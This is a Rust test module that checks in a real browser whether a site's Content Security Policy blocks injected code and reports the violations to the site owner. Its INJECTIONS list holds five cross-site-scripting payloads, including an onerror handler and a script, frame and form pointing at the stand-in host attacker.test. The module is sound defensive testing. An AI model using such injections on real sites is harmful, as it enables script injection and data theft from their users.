//! What a page's own policy stops is stopped in a real browser, and told to whoever runs the site.

use crate::{
    verdict::{Failure, Shown, promise},
    world::{Stage, until},
};
use counterfoil_browser::tab::Tab;

/// Script that found its way into a page does not run; the report arrives, and the session's owner can read of it.
pub(super) async fn arrive(stage: Stage) -> Shown {
    let person = stage.stranger().await?;
    let tab = person.tab().await?;
    stage.sign_in(&tab).await?;
    for (place, script) in INJECTIONS {
        tab.go(&stage.site.at("/counter")).await?;
        tab.run(script).await?;
        let ran = tab.run("window.injectedRan === true").await?;
        promise("injected script does not run", ran.as_bool() == Some(false), || format!("{place} did"))?;
    }
    let told = until("the reports to arrive", || reported(&stage, &tab)).await;
    let told = match told {
        Err(Failure::DevTools(_)) => {
            Err(Failure::Broken { promise: "violations are reported", seen: "no event came of them".to_owned() })
        }
        told => told,
    }?;
    person.leave().await?;
    Ok(format!("{} ways in ran nothing; told: {}", INJECTIONS.len(), told.join(", ")))
}

/// The directives named in the owner's events, once all that were broken are.
async fn reported(stage: &Stage, tab: &Tab) -> Result<Option<Vec<&'static str>>, Failure> {
    tab.go(&stage.site.at("/events")).await?;
    let text = tab.text().await?;
    let told: Vec<_> = DIRECTIVES.into_iter().filter(|directive| text.contains(&format!("by {directive})"))).collect();
    Ok((told.len() == DIRECTIVES.len()).then_some(told))
}

/// What an escaping mistake would let in, put there by hand.
const INJECTIONS: [(&str, &str); 5] = [
    (
        "an inline script",
        "{ const s = document.createElement('script'); s.textContent = 'window.injectedRan = true'; document.body.append(s); }",
    ),
    (
        "an event handler",
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=window.injectedRan=true>')",
    ),
    (
        "a script of another site",
        "new Promise(done => { const s = document.createElement('script'); s.onload = s.onerror = done; s.src = 'https://attacker.test/x.js'; document.body.append(s); }).then(() => 0)",
    ),
    ("a frame", "document.body.insertAdjacentHTML('beforeend', '<iframe src=\"https://attacker.test/\"></iframe>')"),
    (
        "a form to elsewhere",
        "{ const f = document.createElement('form'); f.action = 'https://attacker.test/take'; document.body.append(f); f.submit(); }",
    ),
];
const DIRECTIVES: [&str; 4] = ["script-src-elem", "script-src-attr", "frame-src", "form-action"];
